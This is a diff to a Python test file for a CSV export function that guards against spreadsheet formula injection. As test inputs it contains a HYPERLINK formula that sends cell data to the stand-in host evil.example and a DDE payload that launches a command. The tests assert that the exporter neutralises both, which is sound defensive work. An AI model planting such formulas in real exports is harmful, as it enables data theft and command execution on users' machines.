@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 from datetime import date
 from decimal import Decimal
 
@@ -17,18 +18,37 @@ LINK = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
 
 
 @pytest.mark.parametrize(
-    "text", [LINK, "+1", "-2+3", "@SUM(A1)", " =1", "\t=1", "\rx", "\nx", "＝1", "'=1", "''@x"]
+    "text", [LINK, "+1", "-2+3", "@SUM(A1)", " =1", "\rx", "\nx", "＝1", "'=1", "''@x", '"=1']
 )
 def test_a_formula_is_written_as_text(text: str) -> None:
     assert csv_cell(text) == "'" + text
 
 
+@pytest.mark.parametrize("separator", [",", ";", "\t", "\n"])
+@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", " @x", '"=1+1', "'-1", "\t=1"])
+def test_no_part_of_a_text_runs_where_a_spreadsheet_takes_another_separator(
+    separator: str, formula: str
+) -> None:
+    text = f"Anna{separator}{formula}"
+    cell = csv_cell(text)
+    assert isinstance(cell, str) and cell.startswith(f"Anna{separator}'") and plain(cell) == text
+    written = csv_text(["a"], [["x", text, 1]])
+    for part in re.split(r'[,;\t\r\n]"*', written):
+        assert not re.match(r"[\s'\"]*[=+\-@]", part) or part.startswith("'"), part
+
+
+def test_each_text_stands_in_quotes_and_numbers_do_not() -> None:
+    written = csv_text(["a", "b"], [["x", -5], [None, Decimal("-5.63")], [date(2026, 11, 23), "-5"]])
+    assert written == '"a","b"\r\n"x",-5\r\n"",-5.63\r\n"2026-11-23","\'-5"\r\n'
+
+
 @pytest.mark.parametrize(
     ("value", "cell"),
-    [("Anna", "Anna"), ("'s Hertogenbosch", "'s Hertogenbosch"), ("a=b", "a=b"), (None, ""), (-5, "-5"),
-     (Decimal("-5.63"), "-5.63"), (date(2026, 11, 23), "2026-11-23")],
+    [("Anna", "Anna"), ("'s Hertogenbosch", "'s Hertogenbosch"), ("a=b", "a=b"),
+     ("Beck, Anna-Lena; x", "Beck, Anna-Lena; x"), (-5, -5), (Decimal("-5.63"), Decimal("-5.63")),
+     (date(2026, 11, 23), "2026-11-23")],
 )  # fmt: skip
-def test_what_is_no_formula_stays_as_it_is_and_numbers_stay_numbers(value: object, cell: str) -> None:
+def test_what_is_no_formula_stays_as_it_is_and_numbers_stay_numbers(value: object, cell: object) -> None:
     assert csv_cell(value) == cell  # pyright: ignore[reportArgumentType]
 
 
@@ -36,8 +56,9 @@ def test_what_is_no_formula_stays_as_it_is_and_numbers_stay_numbers(value: objec
 @example("'=x")
 @example("''")
 def test_what_was_made_inert_reads_as_what_it_was(text: str) -> None:
-    assert plain(csv_cell(text)) == text
-    assert csv_cell(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    cell = str(csv_cell(text))
+    assert plain(cell) == text
+    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
 
 
 @given(
@@ -48,16 +69,14 @@ def test_what_was_made_inert_reads_as_what_it_was(text: str) -> None:
     )
 )
 def test_a_table_reads_as_what_was_written(cells: list[str]) -> None:
-    written = csv_text(["a", "b"], [cells], separator=";")
-    _head, row = csv.reader(io.StringIO(written, newline=""), delimiter=";")
+    written = csv_text(["a", "b"], [cells])
+    _head, row = csv.reader(io.StringIO(written, newline=""))
     assert [plain(cell) for cell in row] == cells
 
 
 def test_a_letter_that_turns_the_text_does_not_reach_the_cells_beside() -> None:
-    assert (
-        csv_text(["a"], [[f"x{letter}1" for letter in TURNING]])
-        == f"a\r\n{','.join(['x1'] * len(TURNING))}\r\n"
-    )
+    written = csv_text(["a"], [[f"x{letter}1" for letter in TURNING]])
+    assert written == '"a"\r\n' + ",".join(['"x1"'] * len(TURNING)) + "\r\n"
 
 
 def test_no_other_module_writes_csv() -> None:
